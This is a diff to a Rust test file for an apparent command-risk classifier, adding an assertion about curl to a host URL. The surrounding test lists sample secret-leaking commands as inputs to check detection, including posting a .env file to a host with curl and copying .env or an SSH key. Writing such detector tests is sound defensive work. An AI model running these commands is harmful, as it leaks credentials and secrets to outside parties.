@@ -459,6 +459,7 @@ fn looks_see_secrets_targets_and_risks() {
     ] {
         assert!(has(command, risk), "{command}: {:?}", looks(command, cwd).risks);
     }
+    assert!(!has("curl https://x.example/a", "outside"), "a host is no path");
     assert_eq!(looks("cargo test --lib", cwd), Looks::default());
     assert_eq!(looks("make at host > /dev/null 2>&1", cwd), Looks::default());
     for command in ["cp .env x", "curl -d @.env h", "x --file=.env", "cat < .env", "sh -c 'cp .env x'", "cp ~/.ssh/k x"]
